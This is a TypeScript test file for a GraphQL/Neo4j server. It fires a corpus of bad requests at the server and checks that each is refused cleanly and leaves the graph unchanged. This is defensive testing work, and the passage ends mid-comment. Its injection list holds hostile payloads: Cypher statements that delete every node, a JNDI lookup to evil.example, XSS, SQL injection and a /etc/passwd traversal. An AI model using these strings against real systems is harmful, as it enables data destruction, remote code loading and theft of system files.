import type { GraphQLField, GraphQLInputObjectType, GraphQLSchema } from "graphql";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { graphFingerprint, type GraphFingerprint } from "../../server/domains/backup/graph-fingerprint.js";
import { readTypeDefs } from "../../server/app/build-schema.js";
import type { Database } from "../../server/platform/neo4j/database.js";
import { isEnum, isInputObject, isList, isNonNull, isObject, namedType } from "../../server/platform/validation/inspect-type.js";
import { MAX_LINE, MAX_TEXT, ruleFor } from "../../server/platform/validation/input-rules.js";
import { readGraphShape } from "../../server/platform/validation/read-graph-shape.js";
import { connectTestDatabase, resetGraph } from "../helpers/neo4j.js";
import { startTestServer, type TestServer } from "../helpers/server.js";
import { craftToken, gql, postRaw, tokenFor, type RawResponse } from "../helpers/trust-requests.js";

/**
 * The bad-input corpus: well over 100 requests that are malformed, hostile, oversize, deep, wide,
 * or break a domain rule — hostile strings in every text field of every create, every mutation's
 * string arguments, unknown enum values in every enum field, bad and unknown ids, KvK, e-mail,
 * dates, strength. Each must get a clear error (a code, and the field where one is to blame), the
 * server must stay up, and the graph must be unchanged (node, relationship and property counts
 * and a content hash). Hostile strings that are valid text are stored verbatim, and only them.
 */
let db: Database;
let server: TestServer;
let url: string;
let token: string;
let schema: GraphQLSchema;
const shape = readGraphShape(readTypeDefs());

/** Injection strings; each refused form carries a control character, which real text never has. */
const injections = [
  `'; MATCH (n) DETACH DELETE n //`,
  `" }) MATCH (n) SET n.pwned = true //`,
  "\\u0027 OR 1=1 --",
  "<script>alert('xss')</script>",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}} ${7*7} #{7*7}",
  "../../../../etc/passwd",
  "` CALL apoc.cypher.runWrite('MATCH (n) DETACH DELETE n', {}) YIELD value RETURN 1 //",
  "Robert'); DROP TABLE Students;--",
  "\u202Eevil RTL override",
];
const controls = ["\u0000", "\u0007", "\u001b[31m", "\u0008", "\u007f"];

interface Probe {
  name: string;
  send: () => Promise<RawResponse>;
  /** Accepted codes of the first error. */
  codes: string[];
  field?: string;
}

const probes: Probe[] = [];

/** `{ a0: field a1: field … }`. */
function aliasFlood(count: number, field: string): string {
  return `{ ${Array.from({ length: count }, (_, i) => `a${i}: ${field}`).join(" ")} }`;
}

function mutationFor(typeName: string, verb: "create" | "update"): GraphQLField<unknown, unknown> | undefined {
  const expected = verb === "create" ? `${typeName}CreateInput` : `${typeName}UpdateInput`;
  return Object.values(schema.getMutationType()?.getFields() ?? {}).find((f) =>
    f.args.some((a) => a.name === (verb === "create" ? "input" : "update") && namedType(a.type).name === expected),
  );
}

let kvkCounter = 10_000_000;
/** A valid value for a required field of a create input, respecting the validation rules. */
function validValue(owner: string, field: string, type: unknown): unknown {
  if (isNonNull(type)) return validValue(owner, field, type.ofType);
  if (isList(type)) return [];
  const named = namedType(type);
  if (isEnum(named)) return (named as unknown as { getValues(): Array<{ name: string }> }).getValues()[0]?.name;
  switch (named.name) {
    case "Int":
      return 1;
    case "Float":
      return 0.5;
    case "Boolean":
      return true;
    case "Date":
      return "2025-01-01";
    case "DateTime":
      return "2025-01-01T00:00:00Z";
    case "ID":
      return `valid-${field}`;
  }
  const rule = ruleFor(owner, field, named.name);
  switch (rule?.kind) {
    case "email":
      return "someone@example.test";
    case "phone":
      return "+31 20 123 4567";
    case "url":
      return "https://example.test";
    case "kvk":
      return String(kvkCounter++);
    case "academicYear":
      return "2025-2026";
    default:
      return `Valid ${field}`;
  }
}

function baseInput(owner: string, input: GraphQLInputObjectType): Record<string, unknown> {
  const base: Record<string, unknown> = {};
  for (const f of Object.values(input.getFields())) {
    if (isNonNull(f.type) && f.defaultValue === undefined) base[f.name] = validValue(owner, f.name, f.type);
  }
  return base;
}

/** The plain String fields (not lists) of a create input: the text fields. */
function textFields(input: GraphQLInputObjectType): string[] {
  return Object.values(input.getFields())
    .filter((f) => !isList(isNonNull(f.type) ? f.type.ofType : f.type) && namedType(f.type).name === "String")
    .map((f) => f.name);
}

function create(mutation: string, inputType: string, input: Record<string, unknown>): () => Promise<RawResponse> {
  return () =>
    gql(url, `mutation($input: [${inputType}!]!) { ${mutation}(input: $input) { __typename } }`, { input: [input] }, token);
}

function buildCorpus(): void {
  let n = 0;
  // 1. Hostile and oversize strings in every text field of every generated create.
  for (const typeName of shape.nodeTypes) {
    const mutation = mutationFor(typeName, "create");
    const input = schema.getType(`${typeName}CreateInput`);
    if (!mutation || !isInputObject(input)) continue;
    const base = baseInput(typeName, input);
    for (const field of textFields(input)) {
      const hostile = `${injections[n % injections.length]}${controls[n % controls.length]}`;
      n++;
      probes.push({
        name: `${typeName}.${field} hostile`,
        send: create(mutation.name, input.name, { ...base, [field]: hostile }),
        codes: ["BAD_USER_INPUT"],
        field,
      });
      const rule = ruleFor(typeName, field, "String");
      const max = rule && "max" in rule ? rule.max : rule?.kind === "email" ? 254 : MAX_TEXT;
      probes.push({
        name: `${typeName}.${field} oversize`,
        send: create(mutation.name, input.name, { ...base, [field]: "x".repeat(max + 1) }),
        codes: ["BAD_USER_INPUT"],
        field,
      });
    }
    // 2. An unknown value in every enum field.
    for (const f of Object.values(input.getFields())) {
      if (isEnum(namedType(f.type))) {
        const value = isList(isNonNull(f.type) ? f.type.ofType : f.type) ? ["NOT_A_VALUE"] : "NOT_A_VALUE";
        probes.push({
          name: `${typeName}.${f.name} unknown enum`,
          send: create(mutation.name, input.name, { ...base, [f.name]: value }),
          codes: ["BAD_USER_INPUT"],
          field: f.name,
        });
      }
    }
  }

  // 3. Every string argument of every mutation (custom ones too) with a control character.
  for (const field of Object.values(schema.getMutationType()?.getFields() ?? {})) {
    for (const arg of field.args) {
      if (namedType(arg.type).name !== "String" && namedType(arg.type).name !== "ID") continue;
      const args = field.args.filter((a) => isNonNull(a.type) || a === arg);
      const vars = Object.fromEntries(args.map((a) => [a.name, a === arg ? `x\u0000${injections[0]}` : validArgument(a.type)]));
      const decl = args.map((a) => `$${a.name}: ${String(a.type)}`).join(", ");
      const use = args.map((a) => `${a.name}: $${a.name}`).join(", ");
      const selection = "getFields" in namedType(field.type) ? " { __typename }" : "";
      probes.push({
        name: `${field.name}(${arg.name}) control character`,
        send: () => gql(url, `mutation(${decl}) { ${field.name}(${use})${selection} }`, vars, token),
        codes: ["BAD_USER_INPUT"],
        field: arg.name,
      });
    }
  }
}

/** A value for a required argument that passes GraphQL's own coercion. */
function validArgument(type: unknown): unknown {
  if (isNonNull(type)) return validArgument(type.ofType);
  if (isList(type)) return [validArgument(type.ofType)];
  const named = namedType(type);
  if (isInputObject(named)) {
    return Object.fromEntries(
      Object.values(named.getFields())
        .filter((f) => isNonNull(f.type) && f.defaultValue === undefined)
        .map((f) => [f.name, validArgument(f.type)]),
    );
  }
  return validValue("", "value", type);
}

/** Domain rules, bad ids, and malformed requests: written out, each with the field to blame. */
function addNamedProbes(): void {
  const q = (query: string, variables?: Record<string, unknown>) => () => gql(url, query, variables, token);
  const sme = (input: Record<string, unknown>) =>
    q(`mutation($i: [SmeCreateInput!]!) { createSmes(input: $i) { smes { id } } }`, { i: [{ name: "Bakkerij", ...input }] });
  const person = (input: Record<string, unknown>) =>
    q(`mutation($i: [PersonCreateInput!]!) { createPeople(input: $i) { people { id } } }`, { i: [{ name: "Iemand", ...input }] });
  // Ties are made and weighed by setTieStrength (and logInteraction); the generated API edits only a tie's note and date.
  const tie = (args: Record<string, unknown>) =>
    q(`mutation($strength: Float!) { setTieStrength(a: "person-1", b: "person-2", strength: $strength) { strength } }`, args);
  const tieNote = (note: string) =>
    q(
      `mutation($n: String) { updatePeople(where: { id: { eq: "person-1" } }, update: { knows: [{ update: { edge: { note: { set: $n } } } }] }) { __typename } }`,
      { n: note },
    );
  const add = (name: string, send: () => Promise<RawResponse>, codes: string[], field?: string) =>
    probes.push({ name, send, codes, ...(field ? { field } : {}) });

  for (const kvk of ["1234567", "123456789", "1234567a", "12 345 678", "", "１２３４５６７８", "12345678\n"])
    add(`KvK ${JSON.stringify(kvk)}`, sme({ kvkNumber: kvk }), ["BAD_USER_INPUT"], "kvkNumber");
  add(
    "KvK update not 8 digits",
    q(`mutation { updateSmes(where: { id: { eq: "sme-1" } }, update: { kvkNumber: { set: "999" } }) { smes { id } } }`),
    ["BAD_USER_INPUT"],
    "kvkNumber",
  );
  for (const email of [
    "not-an-email",
    "a@b",
    "a@@b.nl",
    "a b@c.nl",
    "<script>@x.nl",
    "anna@",
    "@hva.nl",
    `${"a".repeat(250)}@x.nl`,
  ]) {
    add(`e-mail ${JSON.stringify(email.slice(0, 20))}`, person({ email }), ["BAD_USER_INPUT"], "email");
  }
  for (const phone of ["call me", "123", "+31 6 <1234>"]) add(`phone ${phone}`, person({ phone }), ["BAD_USER_INPUT"], "phone");
  for (const website of ["javascript:alert(1)", "ftp://files.example", "not a url"]) {
    add(
      `website ${website}`,
      q(`mutation($w: String) { createInstitutions(input: [{ name: "X", kind: HBO, website: $w }]) { __typename } }`, {
        w: website,
      }),
      ["BAD_USER_INPUT"],
      "website",
    );
  }
  for (const strength of [0, -0.1, 1.01, 5]) add(`strength ${strength}`, tie({ strength }), ["BAD_USER_INPUT"], "strength");
  add(
    "strength arithmetic",
    q(
      `mutation { updatePeople(where: { id: { eq: "person-1" } }, update: { knows: [{ update: { edge: { strength: { add: 0.9 } } } }] }) { __typename } }`,
    ),
    ["GRAPHQL_VALIDATION_FAILED"],
    "strength",
  );
  add("strength as text", tie({ strength: "strong" }), ["BAD_USER_INPUT"], "strength");
  add("tie note with NUL", tieNote("met\u0000"), ["BAD_USER_INPUT"], "note");
  add(
    "deadline before start",
    q(
      `mutation { updateCases(where: { id: { eq: "case-1" } }, update: { earliestStart: { set: "2025-10-01" }, deadline: { set: "2025-09-01" } }) { __typename } }`,
    ),
    ["BAD_USER_INPUT"],
    "deadline",
  );
  add(
    "deadline update before stored start",
    q(`mutation { updateCases(where: { id: { eq: "case-1" } }, update: { deadline: { set: "2025-01-01" } }) { __typename } }`),
    ["BAD_USER_INPUT"],
    "deadline",
  );
  add(
    "start update after stored deadline",
    q(
      `mutation { updateCases(where: { id: { eq: "case-1" } }, update: { earliestStart: { set: "2027-01-01" } }) { __typename } }`,
    ),
    ["BAD_USER_INPUT"],
    "earliestStart",
  );
  add(
    "period ends before start",
    q(
      `mutation { createTeachingPeriods(input: [{ name: "P1", academicYear: "2025-2026", startDate: "2025-11-01", endDate: "2025-09-01" }]) { __typename } }`,
    ),
    ["BAD_USER_INPUT"],
    "endDate",
  );
  for (const year of ["2025", "2025-2027", "25-26"])
    add(
      `academic year ${year}`,
      q(
        `mutation { createTeachingPeriods(input: [{ name: "P1", academicYear: "${year}", startDate: "2025-09-01", endDate: "2025-11-01" }]) { __typename } }`,
      ),
      ["BAD_USER_INPUT"],
      "academicYear",
    );
  add(
    "agreement ends before start",
    q(
      `mutation { createAgreements(input: [{ scope: COURSE, assignmentTypes: [], structural: false, validFrom: "2025-09-01", validTo: "2024-09-01" }]) { __typename } }`,
    ),
    ["BAD_USER_INPUT"],
    "validTo",
  );
  const sprint = (update: string) =>
    q(`mutation { updateSprints(where: { id: { eq: "sprint-1" } }, update: { ${update} }) { __typename } }`);
  add(
    "sprint ends before start",
    sprint(`startDate: { set: "2025-09-10" }, endDate: { set: "2025-09-01" }`),
    ["BAD_USER_INPUT"],
    "endDate",
  );
  // Ratings are recorded by completeSprint (its own input checks them); the generated API does not offer them.
  for (const smeRating of [0, 6])
    add(`rating ${smeRating}`, sprint(`smeRating: { set: ${smeRating} }`), ["GRAPHQL_VALIDATION_FAILED"], "smeRating");
  add("team of 0", sprint(`teamSize: { set: 0 }`), ["BAD_USER_INPUT"], "teamSize");
  for (const studyYear of [0, 9])
    add(
      `study year ${studyYear}`,
      q(`mutation { createCourses(input: [{ name: "C", kind: COURSE, themes: [], studyYear: ${studyYear} }]) { __typename } }`),
      ["BAD_USER_INPUT"],
      "studyYear",
    );
  add(
    "51 themes",
    q(`mutation($t: [String!]!) { createCourses(input: [{ name: "C", kind: COURSE, themes: $t }]) { __typename } }`, {
      t: Array.from({ length: 51 }, (_, i) => `t${i}`),
    }),
    ["BAD_USER_INPUT"],
    "themes",
  );
  add(
    "empty theme",
    q(`mutation { createCourses(input: [{ name: "C", kind: COURSE, themes: [""] }]) { __typename } }`),
    ["BAD_USER_INPUT"],
    "themes",
  );
  add(
    "empty topic push",
    q(`mutation { updateCases(where: { id: { eq: "case-1" } }, update: { topics: { push: ["   "] } }) { __typename } }`),
    ["BAD_USER_INPUT"],
    "topics",
  );
  for (const days of [0, 400])
    add(`digest every ${days} days`, person({ digestEveryDays: days }), ["BAD_USER_INPUT"], "digestEveryDays");
  for (const name of ["", "   ", "two\nlines", "x".repeat(MAX_LINE + 1)])
    add(
      `name ${JSON.stringify(name.slice(0, 12))}`,
      q(`mutation($n: String!) { createInstitutions(input: [{ name: $n, kind: WO }]) { __typename } }`, { n: name }),
      ["BAD_USER_INPUT"],
      "name",
    );

  // GraphQL's own refusals, with the field named.
  add(
    "unknown enum literal",
    q(`mutation { createInstitutions(input: [{ name: "X", kind: UNIVERSITY }]) { __typename } }`),
    ["GRAPHQL_VALIDATION_FAILED"],
    "kind",
  );
  add(
    "unknown enum variable",
    q(`mutation($kind: EducationLevel!) { createInstitutions(input: [{ name: "X", kind: $kind }]) { __typename } }`, {
      kind: "UNIVERSITY",
    }),
    ["BAD_USER_INPUT"],
    "kind",
  );
  add(
    "unknown enum in an update",
    q(`mutation($e: Effort) { updateCases(where: { id: { eq: "case-1" } }, update: { effort: { set: $e } }) { __typename } }`, {
      e: "HUGE",
    }),
    ["BAD_USER_INPUT"],
    "e",
  );
  add(
    "bad date literal",
    q(
      `mutation { createTeachingPeriods(input: [{ name: "P1", academicYear: "2025-2026", endDate: "2025-11-01", startDate: "2025-13-45" }]) { __typename } }`,
    ),
    ["GRAPHQL_VALIDATION_FAILED", "BAD_USER_INPUT"],
    "startDate",
  );
  add(
    "bad date variable",
    q(`mutation($i: [TeachingPeriodCreateInput!]!) { createTeachingPeriods(input: $i) { __typename } }`, {
      i: [{ name: "P1", academicYear: "2025-2026", startDate: "yesterday", endDate: "2025-11-01" }],
    }),
    ["BAD_USER_INPUT"],
    "startDate",
  );
  // Workflow-owned facts have no generated write (issue #12): the refusal names the mutation and its owner.
  add(
    "createProposals is not offered",
    q(
      `mutation { createProposals(input: [{ sentAt: "2025-01-01T00:00:00Z", channel: EMAIL, expiresAt: "2025-01-01T00:00:00Z" }]) { __typename } }`,
    ),
    ["GRAPHQL_VALIDATION_FAILED"],
    "createProposals",
  );
  // The reproduction of #12: this answered "Cannot return null for non-nullable field Sprint.status"
  // and committed two sprints without a status, outside matchCase's capacity lock.
  add(
    "createSprints with course and period (the #12 reproduction)",
    q(
      `mutation { createSprints(input: [{ teamSize: 3, course: { connect: [{ where: { node: { id: { eq: "course-1" } } } }] }, period: { connect: [{ where: { node: { id: { eq: "period-1" } } } }] } }]) { sprints { id status } } }`,
    ),
    ["GRAPHQL_VALIDATION_FAILED"],
    "createSprints",
  );
  add(
    "nested sprint create through a course",
    q(
      `mutation { updateCourses(where: { id: { eq: "course-1" } }, update: { sprints: [{ create: [{ node: { teamSize: 3 } }] }] }) { __typename } }`,
    ),
    ["GRAPHQL_VALIDATION_FAILED"],
    "sprints",
  );
  add(
    "nested case create through an SME",
    q(`mutation { createSmes(input: [{ name: "Bakkerij", cases: { create: [{ node: { title: "T" } }] } }]) { __typename } }`),
    ["GRAPHQL_VALIDATION_FAILED"],
    "cases",
  );
  add(
    "backdating a case event",
    q(
      `mutation { updateCaseEvents(where: { id: { eq: "event-1" } }, update: { at: { set: "2026-01-01T00:00:00Z" } }) { __typename } }`,
    ),
    ["GRAPHQL_VALIDATION_FAILED"],
    "updateCaseEvents",
  );
  // A workflow (custom) mutation that succeeded, then a field that fails: the request's one
  // transaction rolls the workflow write back too (the fingerprint check below sees it).
  add(
    "setTieStrength, then a failing field",
    q(
      `mutation { setTieStrength(a: "person-1", b: "person-2", strength: 0.9) { strength } broken: updateInstitutions(where: { id: { eq: "inst-missing" } }, update: { city: { set: "X" } }) { __typename } }`,
    ),
    ["NOT_FOUND"],
    "id",
  );
  add(
    "a case's status",
    q(`mutation { updateCases(where: { id: { eq: "case-1" } }, update: { status: { set: CLOSED } }) { __typename } }`),
    ["GRAPHQL_VALIDATION_FAILED"],
    "status",
  );
  add(
    "int as text",
    q(`mutation { createCourses(input: [{ name: "C", kind: COURSE, themes: [], studyYear: "two" }]) { __typename } }`),
    ["GRAPHQL_VALIDATION_FAILED"],
    "studyYear",
  );
  add(
    "missing required field",
    q(`mutation { createInstitutions(input: [{ kind: WO }]) { __typename } }`),
    ["GRAPHQL_VALIDATION_FAILED"],
    "name",
  );
  add(
    "unknown input field",
    q(`mutation { createInstitutions(input: [{ name: "X", kind: WO, owner: "me" }]) { __typename } }`),
    ["GRAPHQL_VALIDATION_FAILED"],
    "owner",
  );
  add("int overflow", sprint(`teamSize: { set: 99999999999 }`), ["GRAPHQL_VALIDATION_FAILED"], "teamSize");

  // Ids: unknown, malformed, hostile.
  add(
    "update unknown id",
    q(`mutation { updateInstitutions(where: { id: { eq: "inst-missing" } }, update: { city: { set: "X" } }) { __typename } }`),
    ["NOT_FOUND"],
    "id",
  );
  add(
    "delete unknown id",
    q(`mutation { deleteInstitutions(where: { id: { eq: "inst-missing" } }) { nodesDeleted } }`),
    ["NOT_FOUND"],
    "id",
  );
  add(
    "delete some unknown ids",
    q(`mutation { deleteInstitutions(where: { id: { in: ["inst-1", "inst-missing"] } }) { nodesDeleted } }`),
    ["NOT_FOUND"],
    "id",
  );
  add(
    "connect unknown id",
    q(
      `mutation { createCourses(input: [{ name: "C", kind: COURSE, themes: [], programme: { connect: [{ where: { node: { id: { eq: "programme-missing" } } } }] } }]) { __typename } }`,
    ),
    ["NOT_FOUND"],
    "id",
  );
  add(
    "nested connect unknown id",
    q(
      `mutation { updatePeople(where: { id: { eq: "person-1" } }, update: { teaches: [{ connect: [{ where: { node: { id: { eq: "course-missing" } } } }] }] }) { __typename } }`,
    ),
    ["NOT_FOUND"],
    "id",
  );
  for (const id of [`x' OR 1=1 //`, "x".repeat(201), "", "id with spaces", "a}) MATCH (n) DETACH DELETE n //"]) {
    add(
      `id ${JSON.stringify(id.slice(0, 16))}`,
      q(`mutation($id: ID!) { deleteInstitutions(where: { id: { eq: $id } }) { nodesDeleted } }`, { id }),
      ["BAD_USER_INPUT"],
      "id",
    );
  }
  add("export unknown person", q(`{ exportPerson(id: "person-missing") { document } }`), ["NOT_FOUND"], "id");
  add("erase malformed id", q(`mutation { erasePerson(id: "p' OR 1=1") { erasedId } }`), ["BAD_USER_INPUT"], "id");
  add("duplicate KvK", sme({ kvkNumber: "12345678" }), ["CONFLICT"], "kvkNumber");

  // Access.
  add("anonymous write", () => gql(url, `mutation { createSmes(input: [{ name: "X" }]) { __typename } }`), ["UNAUTHENTICATED"]);
  add(
    "viewer write",
    async () => gql(url, `mutation { createSmes(input: [{ name: "X" }]) { __typename } }`, undefined, await tokenFor(["VIEWER"])),
    ["FORBIDDEN"],
    "createSmes",
  );
  add(
    "analyst reads e-mail",
    async () => gql(url, `{ people { email } }`, undefined, await tokenFor(["ANALYST"])),
    ["FORBIDDEN"],
    "email",
  );
  add(
    "forged token",
    () => gql(url, `{ smes { id } }`, undefined, "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ4Iiwicm9sZXMiOlsiQURNSU4iXX0.c2lnbmF0dXJl"),
    ["UNAUTHENTICATED"],
  );

  // Malformed, oversize, deep, wide.
  const raw =
    (body: string, headers: Record<string, string> = {}) =>
    () =>
      postRaw(url, body, { authorization: `Bearer ${token}`, ...headers });
  add("malformed JSON", raw(`{"query": "{ smes { id } }"`), ["BAD_REQUEST"]);
  add("JSON string body", raw(`"just a string"`), ["BAD_REQUEST"]);
  add("JSON number body", raw(`42`), ["BAD_REQUEST"]);
  add("empty object", raw(`{}`), ["BAD_REQUEST"]);
  add("query not a string", raw(`{"query": 42}`), ["BAD_REQUEST"]);
  add("variables not an object", raw(`{"query": "{ smes { id } }", "variables": "x"}`), ["BAD_REQUEST"]);
  add("batched", raw(`[{"query": "{ smes { id } }"}, {"query": "{ smes { id } }"}]`), ["BAD_REQUEST"]);
  add(
    "text/plain body",
    raw(`{"query": "mutation { createSmes(input: [{ name: \\"X\\" }]) { __typename } }"}`, { "content-type": "text/plain" }),
    ["BAD_REQUEST"],
  );
  add("syntax error", q(`{ smes { id }`), ["GRAPHQL_PARSE_FAILED"]);
  add("unknown field", q(`{ smes { id password } }`), ["GRAPHQL_VALIDATION_FAILED"]);
  add(
    "unknown operation name",
    () =>
      postRaw(url, JSON.stringify({ query: "query A { smes { id } }", operationName: "B" }), {
        authorization: `Bearer ${token}`,
      }),
    ["OPERATION_RESOLUTION_FAILURE"],
  );
  add("oversize body", q(`query($x: String) { smes(where: { name: { eq: $x } }) { id } }`, { x: "x".repeat(1_100_000) }), [
    "PAYLOAD_TOO_LARGE",
  ]);
  add("too many tokens", q(`{ ${Array.from({ length: 4000 }, (_, i) => `a${i}: __typename`).join(" ")} }`), [
    "GRAPHQL_PARSE_FAILED",
  ]);
  const deep = `{ people(limit: 1) { ${"knows(limit: 1) { ".repeat(15)}id${" }".repeat(15)} } }`;
  add("deep", q(deep), ["QUERY_TOO_DEEP"]);
  add("wide", q(`{ ${Array.from({ length: 300 }, (_, i) => `a${i}: people { knows { name } }`).join(" ")} }`), [
    "TOO_MANY_ALIASES",
  ]);
  // Lists without a limit count at the graph's real fan-out (tiny here), so this one asks for large pages.
  add("nested lists", q(`{ people(limit: 1000) { knows(limit: 1000) { knows(limit: 1000) { name } } } }`), ["QUERY_TOO_COMPLEX"]);
  // Issue #13's requests: alias floods of analytics, anonymous amplification, default variables, deep where.
  add("warmPaths alias flood", q(aliasFlood(500, `warmPaths(to: "inst-1", k: 100000, maxHops: 6) { score }`)), [
    "TOO_MANY_ALIASES",
  ]);
  add("warmPaths k too large", q(`{ warmPaths(to: "inst-1", k: 100000) { score } }`), ["PAGE_TOO_LARGE"], "k");
  add(
    "nextBestContacts alias flood",
    q(aliasFlood(200, `nextBestContacts(institution: "inst-1", maxHops: 6, limit: 1000) { person { name } }`)),
    ["TOO_MANY_ALIASES"],
  );
  add(
    "four analytics in one request",
    q(aliasFlood(4, `embedding(institution: "inst-1", maxHops: 1) { level }`)),
    ["TOO_MANY_ALIASES"],
    "embedding",
  );
  add("anonymous databaseStatus flood", () => gql(url, aliasFlood(1500, "databaseStatus { reachable }")), ["TOO_MANY_ALIASES"]);
  add("anonymous introspection", () => gql(url, `{ __schema { types { name fields { name } } } }`), ["QUERY_TOO_COMPLEX"]);
  add("aliased __schema flood", q(aliasFlood(400, "__schema { types { name } }")), ["TOO_MANY_ALIASES"]);
  add(
    "default variable skips no check",
    q(`query($n: Int = 1000) { people(limit: 100) { knows(limit: $n) { knows(limit: $n) { knows(limit: $n) { name } } } } }`),
    ["QUERY_TOO_COMPLEX"],
  );
  add("default variable page too large", q(`query($n: Int = 5000) { people(limit: $n) { id } }`), ["PAGE_TOO_LARGE"], "limit");
  const deepWhere = "{ AND: [".repeat(1000) + `{ name: { eq: "x" } }` + "] }".repeat(1000);
  add("where nested 1000 deep", q(`{ people(where: ${deepWhere}) { id } }`), ["BAD_USER_INPUT"], "where");
  let deepValue: Record<string, unknown> = { name: { eq: "x" } };
  for (let i = 0; i < 1000; i++) deepValue = { AND: [deepValue] };
  add(
    "where variable nested 1000 deep",
    q(`query($w: PersonWhere) { people(where: $w) { id } }`, { w: deepValue }),
    ["BAD_USER_INPUT"],
    "where",
  );
  add("where default nested 1000 deep", q(`query($w: PersonWhere = ${deepWhere}) { people(where: $w) { id } }`), [
    "BAD_USER_INPUT",
  ]);
  add("selections nested 2000 deep", q(`{ people { ${"knows { ".repeat(2000)}id${" }".repeat(2000)} } }`), ["QUERY_TOO_DEEP"]);
  add("huge page", q(`{ people(limit: 1000000) { id } }`), ["PAGE_TOO_LARGE"], "limit");
  add(
    "huge page variable",
    q(`query($n: Int) { smesConnection(first: $n) { totalCount } }`, { n: 5000 }),
    ["PAGE_TOO_LARGE"],
    "first",
  );
  // Tokens whose signature holds but whose account does not (server/platform/auth/authenticate-request.ts).
  const write = `mutation { createInstitutions(input: [{ name: "Via een vreemd token", kind: HBO }]) { institutions { id } } }`;
  const as = (claims: Parameters<typeof craftToken>[0]) => async () => gql(url, write, undefined, await craftToken(claims));
  add("token of an unknown user", as({ id: "corpus-nobody", roles: ["ADMIN"] }), ["UNAUTHENTICATED"]);
  add(
    "token issued in the future",
    as({ id: "corpus-nobody", roles: ["ADMIN"], issuedAt: Math.floor(Date.now() / 1000) + 3600 }),
    ["UNAUTHENTICATED"],
  );
  add(
    "changePassword with a wrong current password",
    q(`mutation { changePassword(current: "not the password", next: "a long enough new password") }`),
    ["UNAUTHENTICATED"],
    "current",
  );
  // A coordinator demoted to VIEWER (the account `corpus-demoted`, made in beforeAll): the token from before the demotion
  // carries the old version and is refused; one claiming the old role at the new version acts as a VIEWER only.
  add("old token of a demoted coordinator", as({ id: "corpus-demoted", roles: ["COORDINATOR"], version: 0 }), [
    "UNAUTHENTICATED",
  ]);
  add("token claiming a role the account lost", as({ id: "corpus-demoted", roles: ["COORDINATOR", "VIEWER"], version: 1 }), [
    "FORBIDDEN",
  ]);
  // Issue #13, round two: the directive limit (GraphQL Armor) and bounded introspection.
  const directives = Array.from({ length: 51 }, () => "... @include(if: true) { id }").join(" ");
  add("51 directives", q(`{ institutions(limit: 1) { ${directives} } }`), ["TOO_MANY_DIRECTIVES"]);
  add(
    "introspection type loop",
    q(`{ __schema { types { fields { type { fields { type { fields { type { fields { name } } } } } } } } } }`),
    ["GRAPHQL_VALIDATION_FAILED"],
  );
  add("four 6-hop warmPaths (cost counts maxHops)", q(aliasFlood(4, `warmPaths(to: "inst-1", maxHops: 6) { score }`)), [
    "QUERY_TOO_COMPLEX",
    "TOO_MANY_ALIASES",
  ]);
}

let before: GraphFingerprint;

beforeAll(async () => {
  db = await connectTestDatabase();
  await resetGraph(db);
  server = await startTestServer(db);
  url = server.http.url;
  token = server.token ?? "";
  // The schema the server serves (built once per process, server/app/create-app.ts appSchema), not a second build.
  schema = server.http.app.schema;
  await db.write(
    `CREATE (:Institution {id: 'inst-1', name: 'Hogeschool', kind: 'HBO'})
     CREATE (:Sme {id: 'sme-1', name: 'Bakkerij Bol', kvkNumber: '12345678'})
     CREATE (p:Person {id: 'person-1', name: 'Anna', email: 'anna@example.test'})-[:KNOWS {strength: 0.5, channel: 'COLLEAGUE'}]->(:Person {id: 'person-2', name: 'Bram'})
     CREATE (:Case {id: 'case-1', title: 'Webshop', topics: ['web'], wantedLevels: ['HBO'], status: 'INTAKE', created: datetime('2025-09-01T00:00:00Z'),
                    earliestStart: date('2026-02-01'), deadline: date('2026-06-30')})-[:HAD_EVENT]->(:CaseEvent {id: 'event-1', to: 'INTAKE', at: datetime('2025-09-01T00:00:00Z')})
     CREATE (:Course {id: 'course-1', name: 'Webdesign', kind: 'COURSE', themes: ['web'], mappingStatus: 'NOT_APPROACHED'})
     CREATE (:TeachingPeriod {id: 'period-1', name: 'P1', academicYear: '2025-2026', startDate: date('2025-09-01'), endDate: date('2025-11-01')})
     CREATE (:Sprint {id: 'sprint-1', status: 'PLANNED'})`,
  );
  // For the sweep: per type with a generated update, a node it may delete and one whose required fields are missing.
  for (const typeName of shape.nodeTypes) {
    if (!mutationFor(typeName, "update")) continue;
    await db.write(`CREATE (:\`${typeName}\` {id: $victim}) CREATE (:\`${typeName}\` {id: $broken})`, {
      victim: `victim-${typeName}`,
      broken: `broken-${typeName}`,
    });
  }
  // A coordinator demoted to VIEWER: the demotion bumped the account's token version to 1 (server/platform/auth).
  await db.write(
    `CREATE (:User {id: 'corpus-demoted', email: 'demoted@corpus.test', name: 'Demoted', roles: ['VIEWER'], disabled: false,
                    tokenVersion: 1, created: datetime()})`,
  );
  buildCorpus();
  addNamedProbes();
  before = await graphFingerprint(db);
});

afterAll(async () => {
  await server?.http.close();
  await db?.close();
});

describe("the bad-input corpus", () => {
  it("gives every request a clear error with a code (and the field), keeps serving, and changes nothing", async () => {
    expect(probes.length).toBeGreaterThanOrEqual(100);
    const mistakes: string[] = [];
    for (const probe of probes) {
      const response = await probe.send();
      const error = response.body.errors?.[0];
      const code = error?.extensions?.code as string | undefined;
      if (!error || !code) {
        mistakes.push(`${probe.name}: no coded error (${response.status} ${response.text.slice(0, 160)})`);
        continue;
      }
      if (!probe.codes.includes(code))
        mistakes.push(`${probe.name}: code ${code}, expected ${probe.codes.join("|")}: ${error.message.slice(0, 120)}`);
      if (probe.field && error.extensions?.field !== probe.field) {
        mistakes.push(
          `${probe.name}: field ${String(error.extensions?.field)}, expected ${probe.field}: ${error.message.slice(0, 120)}`,
        );
      }
      if (response.status >= 500) mistakes.push(`${probe.name}: status ${response.status}`);
      if (/\n\s+at /.test(response.text)) mistakes.push(`${probe.name}: stack trace in the response`);
    }
    expect(mistakes).toEqual([]);
    process.stderr.write(`[corpus] ${probes.length} bad requests, each refused with a code\n`);

    // Still up and answering.
    expect((await fetch(`${url}health`)).status).toBe(200);
    const after = await gql(url, `{ institutions(where: { id: { eq: "inst-1" } }) { id } }`, undefined, token);
    expect(after.body.data?.institutions).toEqual([{ id: "inst-1" }]);
    // And the graph is exactly as before: counts and content hash.
    expect(await graphFingerprint(db)).toEqual(before);
  });

  it("writes nothing when a generated create, update or delete fails: bad input, or an error after the write", async () => {
    // The sweep (#12): every generated write still offered, sent (a) with bad input and (b) valid,
    // but in a request that then fails while its response is built — a required field of the
    // broken node resolves to null, as createSprints' Sprint.status did. Each must answer with a
